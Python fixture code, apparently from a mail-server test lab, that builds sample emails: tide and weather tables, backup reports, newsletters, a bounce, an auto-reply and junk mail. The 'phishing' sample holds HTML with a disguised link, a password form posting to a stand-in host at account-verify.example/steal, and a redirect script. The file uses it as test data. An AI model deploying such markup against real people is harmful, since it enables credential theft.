"""What machines send: tides, tables, backups, newsletters, a bounce, an absence note, and spam."""

from __future__ import annotations

import random

from pymaild.lab.cast import (
    ANNA,
    BACKUP,
    GAZETTE,
    HELENE,
    INGRID,
    JONAS,
    LEA,
    LOTTERY,
    MIRA,
    PHISHER,
    PILLS,
    POSTMASTER,
    STATION,
    THEO,
    TIDES,
)
from pymaild.lab.letters import Letter
from pymaild.lab.things import Thing, logo, table

AUTOMATIC = (("Auto-Submitted", "auto-generated"),)


def tides(week: int) -> Letter:
    """The weekly bulletin: a table of high and low water."""
    rng = random.Random(week)
    rows = ["day   high    m    low     m"]
    for day, name in enumerate(("Mon", "Tue", "Wed", "Thu", "Fri", "Sat", "Sun")):
        minute = (week * 347 + day * 50) % 720
        low = (minute + 373) % 720
        height, ebb = 2.9 + rng.random() / 2, 0.2 + rng.random() / 3
        rows.append(f"{name}   {minute // 60:02}:{minute % 60:02}  {height:.1f}   {low // 60:02}:{low % 60:02}  {ebb:.1f}")
    return Letter(
        f"tides-{week}",
        TIDES,
        (THEO,),
        f"{7 * week + 2} 05:00",
        "Tide bulletin for the coming week",
        "\n".join([*rows, "", "Heights above chart datum. Not to be used for navigation."]),
        charset="us-ascii",
        encoding="7bit",
        verbatim=True,
        fields=AUTOMATIC,
        mailbox="Harbour office/Tides",
    )


def weather(day: int) -> Letter:
    """A table of the weather station, one row for each hour."""
    rng = random.Random(1000 + day)
    rows = [("hour", "celsius", "wind", "rain")]
    for hour in range(24):
        warm = 9 + 6 * (1 - abs(hour - 14) / 14)
        rows.append((str(hour), f"{warm + rng.uniform(-1, 1):.1f}", f"{rng.uniform(0, 9):.1f}", f"{rng.uniform(0, 1):.1f}"))
    return Letter(
        f"weather-{day}",
        STATION,
        (JONAS, ANNA),
        f"{day} 06:05",
        "Weather of yesterday",
        "24 readings, none missing.",
        charset="us-ascii",
        encoding="7bit",
        things=(Thing("weather.csv", "text/csv; charset=us-ascii", lambda: table(rows)),),
        fields=AUTOMATIC,
        mailbox="Klasse 7b/Wetter",
    )


def backup(day: int, trouble: str = "") -> Letter:
    """The nightly report of a computer in a cupboard."""
    state = "FAILED" if trouble else "ok"
    return Letter(
        f"backup-{day}",
        BACKUP,
        (LEA,),
        f"{day} 03:30",
        f"[quay-nas] backup {state}",
        trouble or f"{1200 + 7 * day} files, {40 + day} changed, 0 errors. Next run tomorrow at 03:30.",
        charset="us-ascii",
        encoding="7bit",
        fields=AUTOMATIC,
        mailbox="" if trouble else "Reports",
        keywords=("$label1",) if trouble else (),
    )


def gazette(number: int, title: str, teaser: str, when: str) -> Letter:
    """A newsletter: text and HTML, a picture inside and one that would be loaded from afar."""
    page = f"""\
<!doctype html><html><head><style>h1 {{ color: #20343f }} a {{ color: #8a3b2a }}</style></head>
<body style="font-family: sans-serif; background: #f6f3ea">
<img src="cid:banner-{number}@planeandchisel.example" alt="The Plane &amp; Chisel" width="360" height="64">
<h1>{title}</h1><p>{teaser}</p>
<p><a href="https://planeandchisel.example/issue/{number}">Read on</a></p>
<img src="https://planeandchisel.example/picture/{number}.jpg" alt="The picture of the week" width="480">
<p style="font-size: 80%">You get this because you asked for it.
<a href="https://planeandchisel.example/leave?id=4711">Leave the list</a></p></body></html>
"""
    return Letter(
        f"gazette-{number}",
        GAZETTE,
        (MIRA, JONAS),
        when,
        f"The Plane & Chisel, no. {number}: {title}",
        f"{title}\n\n{teaser}\n\nRead on: https://planeandchisel.example/issue/{number}",
        html=page,
        things=(
            Thing("banner.png", "image/png", lambda: logo("The Plane & Chisel"), f"banner-{number}@planeandchisel.example"),
        ),
        fields=(
            ("List-Id", "The Plane & Chisel <news.planeandchisel.example>"),
            ("List-Unsubscribe", "<https://planeandchisel.example/leave?id=4711>"),
            ("List-Unsubscribe-Post", "List-Unsubscribe=One-Click"),
        ),
    )


BOUNCED = (
    b"From: Mira Kowalska <mira@harbour.example>\r\nTo: ingird@dahl.example\r\nSubject: Keel bolts\r\n"
    b"Message-ID: <keel-bolts@harbour.example>\r\n"
)
STATUS = (
    b"Reporting-MTA: dns; mx.post.example\r\n\r\nFinal-Recipient: rfc822; ingird@dahl.example\r\nAction: failed\r\n"
    b"Status: 5.1.1\r\nDiagnostic-Code: smtp; 550 5.1.1 There is no such user here\r\n"
)

LETTERS = (
    *(tides(week) for week in range(8)),
    *(weather(day) for day in range(1, 8)),
    *(backup(day) for day in (2, 3, 4, 5, 6, 7)),
    backup(1, "rsync: connection to the cupboard lost after 311 files. Is the vacuum cleaner using the socket again?"),
    gazette(112, "Sharpening by lamplight", "Why the last stroke is the one that counts, and how to hear it.", "43 07:00"),
    gazette(113, "Glue that forgives", "Hide glue can be undone with warm water. Few decisions can.", "25 07:00"),
    gazette(114, "A bench in an hour", "Nine boards, twelve screws, and the neighbour's opinion.", "5 07:00"),
    Letter(
        "bounce",
        POSTMASTER,
        (MIRA,),
        "34 16:44",
        "Undelivered Mail Returned to Sender",
        """
        This is the mail system at host mx.post.example.

        Your message could not be delivered to one of its recipients: the address ingird@dahl.example does not exist there.
        Please check its spelling. The first lines of your message are attached.
        """,
        charset="us-ascii",
        encoding="7bit",
        things=(
            Thing("", "message/delivery-status", lambda: STATUS),
            Thing("", "text/rfc822-headers", lambda: BOUNCED),
        ),
        report="delivery-status",
        fields=(("Auto-Submitted", "auto-replied"),),
    ),
    Letter(
        "away",
        HELENE,
        (ANNA,),
        "2 22:00",
        "Réponse automatique : absente jusqu'à lundi",
        """
        Bonjour,

        je suis en classe de mer jusqu'à lundi, sans réseau et sans regret. Je vous répondrai à mon retour.

        Hélène Morvan
        """,
        fields=(("Auto-Submitted", "auto-replied"),),
        words="Q",
    ),
    Letter(
        "phishing",
        PHISHER,
        (LEA, THEO),
        "4 03:14",
        "Urgent: your acount will be suspended",
        """
        Dear costumer,

        we have noticed unusual activity. Confirm your password within 24 hours or your money will be lost for ever.
        """,
        html="""\
<html><body><p>Dear costumer,</p><p>we have noticed unusual activity. <a href="http://account-verify.example/login.php?u=1">
https://www.harbour-bank.example/secure</a></p><form action="http://account-verify.example/steal" method="post">
<input name="password" type="password"><input type="submit" value="Confirm"></form>
<script>document.location = "http://account-verify.example/"</script></body></html>
""",
        mailbox="Junk",
        keywords=("$Junk",),
        fields=(("X-Priority", "1"), ("Reply-To", "collector@elsewhere.example")),
    ),
    Letter(
        "lottery",
        LOTTERY,
        (ANNA, JONAS),
        "10 01:02",
        "YOU HAVE WON 4.500.000 (four million)",
        """
        CONGRATULATION! Your electronic mail adress was drawn. To recieve the sum send us your full name and only 250 for
        the paper work. Keep this confidential from your family.
        """,
        mailbox="Junk",
        keywords=("$Junk",),
        charset="us-ascii",
        encoding="7bit",
    ),
    Letter(
        "pills",
        PILLS,
        (MIRA,),
        "8 02:22",
        "V A R N I S H - 9O% off, today only!!!",
        """
        Why pay more. Genuine marine varnish, no questions asked, discreet packaging.
        """,
        mailbox="Junk",
        keywords=("$Junk",),
    ),
    Letter(
        "gone",
        INGRID,
        (MIRA,),
        "14 08:00",
        "please ignore, wrong attachment",
        """
        That was my shopping list. The insurance papers come tomorrow.
        """,
        mailbox="Trash",
    ),
    Letter(
        "fresh-theo",
        THEO,
        (MIRA, LEA),
        "-95",
        "Gale warning for tonight",
        """
        North-east 8 from ten o'clock. Please double the lines, and take in whatever you would miss.

        Coffee in the harbour office all night.
        """,
        flagged=True,
    ),
    Letter(
        "fresh-anna",
        ANNA,
        (JONAS, MIRA),
        "-40",
        "The pigeon is back",
        """
        Wind on the school roof: 0.0 m/s. Wind everywhere else: considerable. 7b demands a photograph.
        """,
    ),
    Letter(
        "fresh-jonas",
        JONAS,
        (ANNA,),
        "-22",
        "Re: The pigeon is back",
        """
        {quote1}

        Beaufort sits on the cups with an expression of great calm. I have moved neither.
        """,
        cc=(MIRA,),
        answers="fresh-anna",
    ),
)
